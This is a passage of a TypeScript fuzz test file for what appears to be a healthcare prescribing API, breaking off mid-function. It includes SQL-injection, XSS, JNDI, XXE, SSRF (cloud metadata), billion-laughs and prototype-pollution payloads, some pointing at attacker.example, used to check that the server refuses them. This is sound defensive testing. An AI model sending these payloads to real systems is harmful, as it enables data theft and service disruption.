// Bad input, all of it: every operation of the OpenAPI document (read from the running server, so
// a new route is fuzzed as soon as it exists) is sent, by a user allowed to use it, thousands of
// malformed, oversized and hostile requests built from its schema and its sample request in
// test/support/routes.ts: broken JSON, bodies and fields of the wrong type, SQL and script
// injection, template and JNDI strings, NUL bytes, lone surrogates, direction overrides, very long
// strings, huge, negative, fractional and non-JSON numbers, impossible dates, prototype-pollution
// and duplicated keys, arrays for objects and back, deep nesting, hostile path parameters and
// query strings, other content types, a 10 MB body, hostile credentials and headers, and random
// mutations from fast-check.
//
// Every answer must be: never a 5xx; a 4xx is problem+json whose status is the HTTP status, and a
// request refused with a 4xx wrote nothing (a trigger on every table records each row written);
// a request accepted with hostile text stored that text verbatim and wrote nothing its valid sample
// request would not have written; what was accepted leaves the patient's record, status, clinical
// view and the worklist readable; and the server still answers an ordinary request afterwards.
// test/api/input.test.ts checks the exact field errors; this file checks that nothing gets through
// or breaks, whatever is sent. The counts per kind of input are printed at the end.
import assert from 'node:assert/strict';
import { randomBytes, randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { sql } from 'kysely';
import { hashToken } from '../../src/services/auth/logIn.js';
import { testPracticeClient } from '../support/interopActors.js';
import { startTestApi, TEST_PASSWORD, type StaffRole } from '../support/api.js';
import { assertStatus, authorizeAndDispense, enrollPatient, pcngpVisit, requestAuthorization } from '../support/journeys.js';
import {
  insertFeedback,
  insertMatchReview,
  insertMissedDoseReport,
  insertOrder,
  pathParamValue,
  payloadOf,
  refusalFormatProblem,
  sampleName,
  samplesOf,
  urlOf,
  type RouteContext,
  type RouteSample,
} from '../support/routes.js';
import { registerInteropClient } from '../support/interopClients.js';

const ON = '2025-03-10';
/** fast-check's seed for the random mutations; a failure prints it with the counterexample. */
const SEED = Number(process.env['FUZZ_SEED'] ?? 20250310);
const RANDOM_RUNS = 25;

const CATEGORIES = [
  'malformed JSON',
  'body of the wrong type',
  'fields of the wrong type',
  'hostile strings',
  'numbers',
  'invalid dates',
  'keys',
  'shapes and nesting',
  'path parameters',
  'query strings',
  'content types',
  'oversized bodies',
  'credentials and headers',
  'random mutations (fast-check)',
  'malformed XML',
  'XML entities and DTDs',
  'XML structure',
] as const;
type Category = (typeof CATEGORIES)[number];

// ---------------------------------------------------------------------------------------------
// Corpora

const HOSTILE_TEXT: readonly string[] = [
  "'; DROP TABLE patients; --",
  "' OR 1=1 --",
  '" OR ""="',
  "1'; SELECT pg_sleep(10); --",
  "'); DELETE FROM users WHERE ('1'='1",
  '$$; TRUNCATE audit_events; $$',
  "\\'; COPY users TO PROGRAM 'id'; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}<%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '%2e%2e%2f%00',
  "=cmd|' /C calc'!A0",
  'a\u0000b',
  '\u0000',
  'x\ud800y',
  '\udfff',
  '\u202eevil\u202c.pdf',
  '\u200b\u200d\ufeff',
  '👩‍⚕️💊 ∑ 漢字 עברית',
  'e\u0301 / \u00e9',
  '\r\n\t\u000b\u000c',
  '\u001b[31mred\u001b[0m',
  '\\',
  ' ',
  '',
  'null',
  'NaN',
  '__proto__',
  'x'.repeat(10_000),
];

/** Raw JSON tokens, some of them not JSON at all (NaN, 0x1F, +1). */
const NUMBER_TOKENS: readonly string[] = [
  '1e309',
  '-1e309',
  '1.7976931348623157e308',
  '-1.7976931348623157e308',
  '5e-324',
  '-0',
  '0',
  '-1',
  '0.5',
  '-0.5',
  '1.0000000000000002',
  '9007199254740993',
  '-9223372036854775809',
  '18446744073709551616',
  '2147483648',
  '1e21',
  '100.0',
  '1E2',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x1F',
  '1_000',
  '+1',
  '.5',
  '5.',
  '01',
  '"1"',
  '"1e309"',
  '[1]',
];

const INVALID_DATES: readonly string[] = [
  '2025-02-30',
  '2025-02-29',
  '1900-02-29',
  '0000-00-00',
  '9999-99-99',
  '2025-13-01',
  '2025-00-10',
  '2025-03-00',
  '2025-03-32',
  '2025-03-10T00:00:00Z',
  '2025-03-10T12:00:00+14:00',
  '2025-03-10 00:00',
  '2025-3-10',
  '25-03-10',
  '20250310',
  '+002025-03-10',
  '-002025-03-10',
  ' 2025-03-10',
  '2025-03-10\n',
  '2025/03/10',
  '03/10/2025',
  '２０２５-０３-１０',
  '2025-03-10\u0000',
  'today',
];

/** Real calendar dates at the edges: the schema accepts them, the use cases decide. */
const EDGE_DATES: readonly string[] = ['0001-01-01', '1582-10-10', '1970-01-01', '2024-02-29', '2026-08-08', '2100-01-01', '9999-12-31'];

/** Values of every other JSON type. */
const WRONG_TYPES: readonly unknown[] = [null, true, -1.5, 'x', [], {}];

/** The hostile strings that stand for the others where a field or a parameter takes no free text. */
const HOSTILE_SAMPLE: readonly string[] = [
  "'; DROP TABLE patients; --",
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  'a\u0000b',
  'x\ud800y',
  '\u202eevil\u202c.pdf',
  '👩‍⚕️💊 ∑ 漢字 עברית',
  ' ',
  'null',
];

interface PathValue {
  label: string;
  /** Already a URL path segment (percent-encoded as sent). */
  segment: string;
}

/**
 * Percent-encodes any string, lone surrogates too (as the bytes WTF-8 gives them, which are not
 * UTF-8: the server must refuse them, not crash), where encodeURIComponent would throw.
 */
function percentEncoded(value: string): string {
  return Array.from(value, (character) => {
    const code = character.charCodeAt(0);
    if (character.length === 1 && code >= 0xd800 && code <= 0xdfff) {
      return `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase();
    }
    return encodeURIComponent(character);
  }).join('');
}

function pathValues(real: string): PathValue[] {
  const encoded = (value: string): PathValue => ({
    label: JSON.stringify(value.length > 60 ? `${value.slice(0, 20)}…(${value.length})` : value),
    segment: percentEncoded(value),
  });
  const raw = (segment: string): PathValue => ({ label: `raw ${segment.length > 60 ? `${segment.slice(0, 20)}…(${segment.length})` : segment}`, segment });
  return [
    ...['not-a-uuid', '123', '-1', 'null', 'undefined', '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff'].map(encoded),
    encoded(real.toUpperCase()),
    encoded(`{${real}}`),
    encoded(`${real} `),
    encoded(`${real}x`),
    encoded(real.slice(0, -1)),
    encoded(real.replaceAll('-', '')),
    ...HOSTILE_SAMPLE.map(encoded),
    encoded('x'.repeat(99)),
    encoded('x'.repeat(5_000)),
    raw('..'),
    raw('%2e%2e'),
    raw('..%2F..%2Fetc%2Fpasswd'),
    raw('%00'),
    raw('%E0%A4%A'),
    raw('%ZZ'),
    raw('%'),
    raw(`${real}%00`),
    raw(`${real}/..`),
  ];
}

// ---------------------------------------------------------------------------------------------
// The OpenAPI document

interface JsonSchema {
  type?: string;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  anyOf?: JsonSchema[];
  enum?: unknown[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  maxItems?: number;
}

interface Parameter {
  name: string;
  in: 'path' | 'query' | 'header' | 'cookie';
  required?: boolean;
  schema: JsonSchema;
}

interface Operation {
  name: string;
  method: RouteSample['method'];
  sample: RouteSample;
  parameters: Parameter[];
  body: JsonSchema | null;
}

interface OpenApiDocument {
  paths: Record<string, Record<string, { parameters?: Parameter[]; requestBody?: { content?: Record<string, { schema?: JsonSchema }> } }>>;
}

function operationsOf(document: OpenApiDocument): { operations: Operation[]; withoutSample: string[] } {
  const operations: Operation[] = [];
  const withoutSample: string[] = [];
  for (const [path, methods] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      const name = `${method.toUpperCase()} ${path}`;
      const samples = samplesOf(name);
      if (samples.length === 0) {
        withoutSample.push(name);
        continue;
      }
      for (const sample of samples) {
        const content = operation.requestBody?.content ?? {};
        operations.push({
          name: sampleName(sample),
          method: sample.method,
          sample,
          parameters: operation.parameters ?? [],
          // An XML message is fuzzed as XML (xmlCases), whatever schema documents it.
          body: sample.raw !== undefined ? null : (content[sample.contentType ?? 'application/json']?.schema ?? Object.values(content)[0]?.schema ?? null),
        });
      }
    }
  }
  return { operations, withoutSample };
}

type FieldKind = 'date' | 'uuid' | 'email' | 'choice' | 'integer' | 'number' | 'boolean' | 'array' | 'object' | 'text';

function kindOf(schema: JsonSchema): FieldKind {
  if (schema.anyOf !== undefined || schema.enum !== undefined) {
    return 'choice';
  }
  if (schema.format === 'date') {
    return 'date';
  }
  if (schema.format === 'uuid') {
    return 'uuid';
  }
  if (schema.format === 'email') {
    return 'email';
  }
  if (schema.type === 'integer' || schema.type === 'number' || schema.type === 'boolean' || schema.type === 'array' || schema.type === 'object') {
    return schema.type;
  }
  return 'text';
}

interface Field {
  path: Array<string | number>;
  name: string;
  schema: JsonSchema;
  kind: FieldKind;
}

/** Every field of a body schema, nested ones too where the sample has their parent. */
function fieldsOf(schema: JsonSchema, value: unknown, path: Array<string | number> = []): Field[] {
  const fields: Field[] = [];
  const here = (value ?? {}) as Record<string, unknown>;
  for (const [key, child] of Object.entries(schema.properties ?? {})) {
    const childPath = [...path, key];
    fields.push({ path: childPath, name: childPath.join('/'), schema: child, kind: kindOf(child) });
    const present = here[key];
    if (child.type === 'object' && typeof present === 'object' && present !== null) {
      fields.push(...fieldsOf(child, present, childPath));
    }
    if (child.type === 'array' && child.items !== undefined && Array.isArray(present) && present.length > 0) {
      const itemPath = [...childPath, 0];
      fields.push({ path: itemPath, name: itemPath.join('/'), schema: child.items, kind: kindOf(child.items) });
      if (child.items.type === 'object') {
        fields.push(...fieldsOf(child.items, present[0], itemPath));
      }
    }
  }
  return fields;
}

// ---------------------------------------------------------------------------------------------
// Requests

/** Tables whose writes are not records: the audit trail and sessions (every request may touch them) and log-in attempts. */
const NOT_RECORDS = ['audit_events', 'sessions', 'login_attempts', 'lookup_failures', 'schema_migrations', 'interop_access_tokens', 'interop_assertion_ids'];
/** Fields the server keeps in another form by design: a password is hashed, a CSV file is read into results. */
const NOT_STORED_AS_SENT = new Set(['password', 'account/password', 'csv']);

/** A raw JSON token stands in for a value until the body is serialized (1e309, NaN, -0 …). */
class RawJson {
  constructor(readonly token: string) {}
}

function serialize(body: unknown): string {
  const raws: RawJson[] = [];
  const text = JSON.stringify(body, (_key, value: unknown) => {
    if (value instanceof RawJson) {
      raws.push(value);
      return `\u0007raw${raws.length - 1}\u0007`;
    }
    return value;
  });
  return raws.reduce((result, raw, index) => result.replace(JSON.stringify(`\u0007raw${index}\u0007`), raw.token), text);
}

/** A deep copy that keeps raw tokens as they are (structuredClone would make them plain objects). */
function copyOf<T>(value: T): T {
  if (value instanceof RawJson || typeof value !== 'object' || value === null) {
    return value;
  }
  if (Array.isArray(value)) {
    return value.map((item: unknown) => copyOf(item)) as T;
  }
  return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, copyOf(item)])) as T;
}

function withValue(body: Record<string, unknown>, path: ReadonlyArray<string | number>, value: unknown): Record<string, unknown> {
  const copy = copyOf(body);
  let node = copy as Record<string | number, unknown>;
  path.slice(0, -1).forEach((key) => {
    const next = node[key];
    node[key] = typeof next === 'object' && next !== null ? next : {};
    node = node[key] as Record<string | number, unknown>;
  });
  node[path.at(-1) as string | number] = value;
  return copy;
}

function valueAt(body: unknown, path: ReadonlyArray<string | number>): unknown {
  return path.reduce<unknown>((node, key) => (typeof node === 'object' && node !== null ? (node as Record<string | number, unknown>)[key] : undefined), body);
}

function without(body: Record<string, unknown>, key: string): Record<string, unknown> {
  const { [key]: _dropped, ...copy } = body;
  return copy;
}

/** A request's text that the server must keep exactly as sent if it accepts the request. */
interface PlantedText {
  field: string;
  value: string;
}

interface FuzzCase {
  category: Category;
  label: string;
  url?: string;
  /** Default: the sample body as JSON (none for operations without a body). */
  payload?: string | null;
  /** Default application/json when there is a payload; null sends none. */
  contentType?: string | null;
  headers?: Record<string, string>;
  /** Replaces the bearer token of the operation's user (null: no credentials). */
  credentials?: Record<string, string> | null;
  /** Sends the user's session as the session cookie instead of a bearer token. */
  sessionAsCookie?: boolean;
  planted?: PlantedText[];
}

const deepArray = (depth: number): RawJson => new RawJson(`${'['.repeat(depth)}${']'.repeat(depth)}`);
const deepObject = (depth: number): RawJson => new RawJson(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);

function describeValue(value: unknown): string {
  if (value instanceof RawJson) {
    return value.token.length > 40 ? `raw ${value.token.slice(0, 20)}…(${value.token.length})` : `raw ${value.token}`;
  }
  // JSON.stringify answers undefined for undefined and functions, whatever its type says.
  const text = (JSON.stringify(value) as string | undefined) ?? String(value);
  return text.length > 60 ? `${text.slice(0, 30)}…(${text.length})` : text;
}

/**
 * The sample without its optional parts that carry a password (an enrollment's account): hashing a
 * password is slow on purpose, so only the requests aimed at those parts send them.
 */
function lighter(schema: JsonSchema | null, sample: Record<string, unknown> | null): { light: Record<string, unknown> | null; dropped: Set<string> } {
  const dropped = new Set<string>();
  if (schema === null || sample === null) {
    return { light: sample, dropped };
  }
  let light = sample;
  for (const [key, value] of Object.entries(sample)) {
    if (!(schema.required ?? []).includes(key) && typeof value === 'object' && value !== null && 'password' in value) {
      light = without(light, key);
      dropped.add(key);
    }
  }
  return { light, dropped };
}

// ---------------------------------------------------------------------------------------------
// XML messages (NCPDP SCRIPT): what an XML parser can be made to do, and every element's text.

/** The text between two tags that holds more than white space: where a message carries its values. */
function textNodes(message: string): Array<{ start: number; end: number; text: string }> {
  const nodes: Array<{ start: number; end: number; text: string }> = [];
  for (const match of message.matchAll(/>([^<>]*[^<>\s][^<>]*)</g)) {
    const start = match.index + 1;
    nodes.push({ start, end: start + (match[1] ?? '').length, text: match[1] ?? '' });
  }
  return nodes;
}

function withText(message: string, node: { start: number; end: number }, text: string): string {
  return `${message.slice(0, node.start)}${text}${message.slice(node.end)}`;
}

function escapedXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}

/** The explicit XML corpora for a message: malformed, entity tricks, odd structure, every value replaced. */
function xmlCases(sample: string, contentType: string): FuzzCase[] {
  const cases: FuzzCase[] = [];
  const prolog = /^\s*<\?xml[^>]*\?>\s*/.exec(sample)?.[0] ?? '';
  const document = sample.slice(prolog.length);
  const root = /<([A-Za-z_][\w.:-]*)/.exec(document)?.[1] ?? 'Message';
  const nodes = textNodes(sample);
  const first = nodes[0];
  /** The message with a document type declaration, and `reference` as its first value. */
  const declaring = (declaration: string, reference: string): string => {
    const valued = first === undefined ? sample : withText(sample, first, reference);
    return `${prolog}<!DOCTYPE ${root} [${declaration}]>${valued.slice(prolog.length)}`;
  };
  const closing = sample.lastIndexOf('</');

  for (const [label, payload] of [
    ['empty', ''],
    ['a space', ' '],
    ['a lone <', '<'],
    ['<>', '<>'],
    ['only a closing tag', `</${root}>`],
    ['only an opening tag', `<${root}>`],
    ['only the prolog', '<?xml version="1.0"?>'],
    ['cut in half', sample.slice(0, Math.floor(sample.length / 2))],
    ['without its last closing tag', closing > 0 ? sample.slice(0, closing) : sample.slice(0, -1)],
    ['a mismatched closing tag', sample.replace(/<\/(\w[\w.:-]*)>/, '</Mismatched>')],
    ['two root elements', `${sample}${document}`],
    ['text after the root', `${sample}trailing`],
    ['a BOM', `\ufeff${sample}`],
    ['not XML at all', 'this is not XML'],
    ['a NUL', '\u0000'],
    ['a NUL in a value', first === undefined ? `${sample}\u0000` : withText(sample, first, 'a\u0000b')],
    ['a bare & in a value', first === undefined ? `${sample}&` : withText(sample, first, 'AT&T')],
    ['a bare < in a value', first === undefined ? `${sample}<` : withText(sample, first, 'a < b')],
    ['an unquoted attribute', `${prolog}<${root} a=b>${document.slice(document.indexOf('>') + 1)}`],
    ['an unclosed comment', `${sample}<!-- unclosed`],
    ['an unclosed CDATA', first === undefined ? `${sample}<![CDATA[` : withText(sample, first, '<![CDATA[ unclosed')],
    ['JSON with the XML content type', '{"Message":{"Body":{}}}'],
    ['a lone surrogate in a value', first === undefined ? `${sample}\ud800` : withText(sample, first, 'x\ud800y')],
  ] as const) {
    cases.push({ category: 'malformed XML', label, payload });
  }

  const laughs = [
    '<!ENTITY lol "lol">',
    ...Array.from({ length: 9 }, (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`),
  ].join('');
  for (const [label, declaration, reference] of [
    ['external entity: a file (XXE)', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;'],
    ['external entity: a URL (SSRF)', '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">', '&xxe;'],
    ['external entity: a PHP filter', '<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">', '&xxe;'],
    ['a parameter entity from a URL', '<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;', 'x'],
    ['billion laughs', laughs, '&lol9;'],
    ['quadratic blow-up', `<!ENTITY big "${'a'.repeat(20_000)}">`, '&big;'.repeat(40)],
    ['a recursive entity', '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;'],
    ['an internal entity', '<!ENTITY name "Spoofed">', '&name;'],
  ] as const) {
    cases.push({ category: 'XML entities and DTDs', label, payload: declaring(declaration, reference) });
  }
  for (const [label, reference] of [
    ['an undefined entity', '&undefined;'],
    ['a NUL character reference', '&#0;'],
    ['a surrogate character reference', '&#xD800;'],
    ['a character reference past Unicode', '&#x110000;'],
    ['a huge character reference', '&#99999999999999999999;'],
  ] as const) {
    cases.push({ category: 'XML entities and DTDs', label, payload: first === undefined ? `${sample}${reference}` : withText(sample, first, reference) });
  }
  cases.push({
    category: 'XML entities and DTDs',
    label: 'an external DTD',
    payload: `${prolog}<!DOCTYPE ${root} SYSTEM "http://attacker.example/evil.dtd">${document}`,
  });
  cases.push({
    category: 'XML entities and DTDs',
    label: 'XInclude of a file',
    payload:
      first === undefined ? sample : withText(sample, first, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
  });
  cases.push({
    category: 'XML entities and DTDs',
    label: 'a stylesheet instruction',
    payload: `${prolog}<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>${document}`,
  });

  for (const [label, payload] of [
    ['another root element', `${prolog}<Unexpected>${document}</Unexpected>`],
    ['an empty root', `${prolog}<${root}/>`],
    ['a foreign default namespace', `${prolog}${document.replace(`<${root}`, `<${root} xmlns="urn:attacker:evil"`)}`],
    ['10,000 nested elements', `${prolog}<${root}>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</${root}>`],
    ['100,000 sibling elements', `${prolog}<${root}>${'<a/>'.repeat(100_000)}</${root}>`],
    [
      '10,000 attributes',
      `${prolog}<${root} ${Array.from({ length: 10_000 }, (_, index) => `a${index}="1"`).join(' ')}>${document.slice(document.indexOf('>') + 1)}`,
    ],
    ['an element name of 100,000 characters', `${prolog}<${root}><${'n'.repeat(100_000)}/></${root}>`],
    ['a processing instruction in a value', first === undefined ? sample : withText(sample, first, "<?php system('id'); ?>")],
    ['a value in CDATA', first === undefined ? sample : withText(sample, first, `<![CDATA[${first.text}]]>`)],
    ['a comment in a value', first === undefined ? sample : withText(sample, first, `${first.text}<!-- comment -->`)],
    ['every element twice', sample.replace(/(<(\w[\w.:-]*)[^>]*>[^<]*<\/\2>)/g, '$1$1')],
  ] as const) {
    cases.push({ category: 'XML structure', label, payload });
  }
  for (const [label, type] of [
    ['JSON content type', 'application/json'],
    ['FHIR JSON content type', 'application/fhir+json'],
    ['text/plain', 'text/plain'],
    ['no content type', null],
    ['UTF-16 declared', `${contentType}; charset=utf-16`],
    ['text/xml', 'text/xml'],
    ['SOAP', 'application/soap+xml'],
  ] as const) {
    cases.push({ category: 'content types', label, contentType: type, payload: sample });
  }
  cases.push({
    category: 'oversized bodies',
    label: '10 MB XML',
    payload: `${prolog}<${root}><!--${'x'.repeat(10 * 1024 * 1024)}-->${document.slice(document.indexOf('>') + 1)}`,
  });
  cases.push({ category: 'oversized bodies', label: 'just under 1 MiB', payload: `${sample}<!--${'x'.repeat(1024 * 1024 - sample.length - 100)}-->` });

  // Every value of the message, one at a time: hostile text (escaped, as a sender would), numbers and dates.
  nodes.forEach((node, index) => {
    const at = `value ${index + 1} (${node.text.length > 20 ? `${node.text.slice(0, 20)}…` : node.text})`;
    for (const value of [...HOSTILE_SAMPLE, 'x'.repeat(10_000), '']) {
      cases.push({ category: 'hostile strings', label: `${at} = ${describeValue(value)}`, payload: withText(sample, node, escapedXml(value)) });
    }
    for (const value of NUMBER_TOKENS.slice(0, 8)) {
      cases.push({ category: 'numbers', label: `${at} = ${value}`, payload: withText(sample, node, escapedXml(value)) });
    }
    for (const value of INVALID_DATES.slice(0, 8)) {
      cases.push({ category: 'invalid dates', label: `${at} = ${describeValue(value)}`, payload: withText(sample, node, escapedXml(value)) });
    }
  });
  return cases;
}

/** Random changes of an XML message's values, escaped (well-formed) or as they are (perhaps not). */
function randomXmlCase(sample: string, url: string): fc.Arbitrary<FuzzCase> {
  const nodes = textNodes(sample);
  return fc
    .record({
      changes: fc.array(
        fc.record({
          node: fc.nat({ max: Math.max(0, nodes.length - 1) }),
          value: fc.oneof(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ unit: 'grapheme', maxLength: 40 })),
          escaped: fc.boolean(),
        }),
        { minLength: 1, maxLength: 3 },
      ),
    })
    .map(({ changes }) => {
      // From the last value to the first, so earlier positions stay right.
      const ordered = [...new Map(changes.map((change) => [change.node, change])).values()].sort((a, b) => b.node - a.node);
      let payload = sample;
      for (const change of ordered) {
        const node = nodes[change.node];
        payload = node === undefined ? `${payload}${change.value}` : withText(payload, node, change.escaped ? escapedXml(change.value) : change.value);
      }
      return {
        category: 'random mutations (fast-check)' as const,
        label: describeValue(ordered.map((change) => [change.node, change.escaped ? 'escaped' : 'raw', describeValue(change.value)])),
        url,
        payload,
      };
    });
}

/** The URL with one path segment (a path parameter's value) replaced: the whole segment, not a text inside another one. */
function replacedSegment(url: string, real: string, segment: string): string {
  const [path = url, query] = url.split('?');
  const parts = path.split('/');
  const at = parts.indexOf(real);
  const replaced = at === -1 ? path.replace(real, segment) : [...parts.slice(0, at), segment, ...parts.slice(at + 1)].join('/');
  return query === undefined ? replaced : `${replaced}?${query}`;
}

/** The explicit corpora for one operation. */
function casesFor(operation: Operation, fullSample: Record<string, unknown> | null, ctx: RouteContext): FuzzCase[] {
  const cases: FuzzCase[] = [];
  const { light: sample, dropped } = lighter(operation.body, fullSample);
  const json = sample === null ? null : serialize(sample);
  const url = urlOf(operation.sample, ctx);

  if (operation.sample.raw !== undefined) {
    // An XML message (NCPDP SCRIPT): broken XML, entities and DTDs, hostile text in every element.
    cases.push(...xmlCases(operation.sample.raw(ctx), operation.sample.contentType ?? 'application/xml'));
  } else {
    // Bodies: sent to every operation, those without a body schema too (they must ignore or refuse them).
    const base = json ?? '{}';
    for (const payload of [
      '{',
      '}',
      '{"a":',
      base.replace(/}$/, ',}'),
      base.slice(0, Math.floor(base.length / 2)),
      "{'kind':'general'}",
      '{kind:1}',
      `${base}${base}`,
      '{"a":NaN}',
      '{"a":Infinity}',
      '{"a":undefined}',
      `// comment\n${base}`,
      `\ufeff${base}`,
      '{"a":"\u0000"}',
      '{"a":"\n"}',
      '{"a":01}',
      '[1,2',
      '"unterminated',
      'nul',
      '',
      ' ',
      '\u0000',
    ]) {
      cases.push({ category: 'malformed JSON', label: describeValue(payload), payload });
    }
    for (const payload of [
      '[]',
      `[${base}]`,
      '"text"',
      '7',
      '-0',
      'null',
      'true',
      '{}',
      '[[[[]]]]',
      JSON.stringify(Array.from({ length: 100_000 }, (_, index) => index)),
      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
      `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
    ]) {
      cases.push({ category: 'body of the wrong type', label: describeValue(payload), payload });
    }
    for (const [label, contentType, payload] of [
      ['text/plain', 'text/plain', base],
      ['form', 'application/x-www-form-urlencoded', new URLSearchParams(Object.entries(sample ?? {}).map(([key, value]) => [key, String(value)])).toString()],
      ['multipart', 'multipart/form-data; boundary=x', `--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${base}\r\n--x--`],
      ['XML', 'application/xml', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
      ['text/xml', 'text/xml', '<a/>'],
      ['HTML', 'text/html', '<script>alert(1)</script>'],
      ['octet-stream', 'application/octet-stream', base],
      ['no content type', null, base],
      ['empty content type', '', base],
      ['JSON in UTF-16', 'application/json; charset=utf-16', base],
      ['JSON in Latin-1', 'application/json; charset=iso-8859-1', base],
      ['JSON, upper case', 'APPLICATION/JSON', base],
      ['JSON with a boundary', 'application/json; boundary=x', base],
      ['JSON:API', 'application/vnd.api+json', base],
      ['problem+json', 'application/problem+json', base],
      ['JSON sequence', 'application/json-seq', `\u001e${base}\n`],
      ['any', '*/*', base],
      ['two types', 'application/json, text/plain', base],
    ] as const) {
      cases.push({ category: 'content types', label, contentType, payload });
    }
    const tenMegabytes = JSON.stringify({ ...sample, padding: 'x'.repeat(10 * 1024 * 1024) });
    cases.push({ category: 'oversized bodies', label: '10 MB JSON', payload: tenMegabytes });
    cases.push({ category: 'oversized bodies', label: '10 MB text/plain', contentType: 'text/plain', payload: 'x'.repeat(10 * 1024 * 1024) });
    cases.push({ category: 'oversized bodies', label: '1 MiB + 1 byte', payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024) }) });
    cases.push({
      category: 'oversized bodies',
      label: 'just under 1 MiB',
      payload: JSON.stringify({ ...sample, padding: 'x'.repeat(1024 * 1024 - base.length - 100) }),
    });

    if (sample !== null && fullSample !== null && operation.body !== null) {
      const fields = fieldsOf(operation.body, fullSample);
      const required = operation.body.required ?? [];
      const firstKey = Object.keys(sample)[0] ?? 'a';
      // Keys: unknown, duplicated, prototype pollution, hostile names, missing.
      const keyCases: Array<[string, string]> = [
        ['an unknown field', serialize({ ...sample, unexpected: 'x' })],
        ['__proto__', `{"__proto__":{"admin":true},${base.slice(1)}`],
        ['constructor.prototype', `{"constructor":{"prototype":{"admin":true}},${base.slice(1)}`],
        ['__proto__ nested', serialize({ ...sample, nested: new RawJson('{"__proto__":{"admin":true}}') })],
        [`${firstKey} twice (hostile second)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(HOSTILE_TEXT[0])}}`],
        [`${firstKey} twice (same value)`, `${base.slice(0, -1)},${JSON.stringify(firstKey)}:${JSON.stringify(sample[firstKey])}}`],
        ['an SQL key', serialize({ ...sample, "'; DROP TABLE patients; --": 1 })],
        ['a script key', serialize({ ...sample, '<script>alert(1)</script>': 1 })],
        ['an empty key', serialize({ ...sample, '': 1 })],
        ['a NUL key', serialize({ ...sample, 'a\u0000b': 1 })],
        ['a long key', serialize({ ...sample, ['k'.repeat(100_000)]: 1 })],
        ['no fields', '{}'],
        ...required.map((key): [string, string] => [`without ${key}`, serialize(without(sample, key))]),
      ];
      for (const [label, payload] of keyCases) {
        cases.push({ category: 'keys', label, payload });
      }

      for (const field of fields) {
        const around = dropped.has(String(field.path[0])) ? fullSample : sample;
        const at = (value: unknown): string => serialize(withValue(around, field.path, value));
        const plant = (category: Category, value: unknown, label = describeValue(value)): void => {
          cases.push({
            category,
            label: `${field.name} = ${label}`,
            payload: at(value),
            planted: typeof value === 'string' ? [{ field: field.name, value }] : [],
          });
        };
        for (const value of WRONG_TYPES) {
          plant('fields of the wrong type', value);
        }
        const stringy = ['text', 'email', 'uuid', 'choice', 'date'].includes(field.kind);
        // Every hostile text where free text is taken (a password is only hashed: a slow hash each, so the shorter list).
        const freeText = (field.kind === 'text' || field.kind === 'email') && !NOT_STORED_AS_SENT.has(field.name);
        const texts = freeText ? HOSTILE_TEXT : stringy ? HOSTILE_SAMPLE : HOSTILE_SAMPLE.slice(0, 3);
        for (const value of texts) {
          plant('hostile strings', value);
        }
        if (field.kind === 'text' || field.kind === 'email') {
          const { minLength = 0, maxLength } = field.schema;
          if (maxLength !== undefined) {
            plant('hostile strings', "'; --<script>".repeat(Math.ceil(maxLength / 13)).slice(0, maxLength), `${maxLength} characters (the maximum)`);
            plant('hostile strings', 'y'.repeat(maxLength + 1), `${maxLength + 1} characters (one over)`);
          }
          if (minLength > 0) {
            plant('hostile strings', 'y'.repeat(minLength - 1), `${minLength - 1} characters (one under)`);
          }
        }
        if (field.kind === 'email') {
          for (const value of [
            'a@b',
            'x@x.example\u0000',
            '"<script>"@x.example',
            "o'hara@test.example",
            'x@[127.0.0.1]',
            `${'a'.repeat(64)}@${'b'.repeat(190)}.example`,
          ]) {
            plant('hostile strings', value);
          }
        }
        const numbers = field.kind === 'integer' || field.kind === 'number' ? NUMBER_TOKENS : NUMBER_TOKENS.slice(0, 4);
        for (const token of numbers) {
          plant('numbers', new RawJson(token));
        }
        const dates = field.kind === 'date' ? [...INVALID_DATES, ...EDGE_DATES] : INVALID_DATES.slice(0, 3);
        for (const value of dates) {
          plant('invalid dates', value);
        }
        const shapes: unknown[] = [deepArray(1_000), deepObject(1_000), new RawJson(`{"__proto__":${JSON.stringify(sample)}}`)];
        const current = valueAt(around, field.path);
        if (field.kind === 'array') {
          shapes.push(
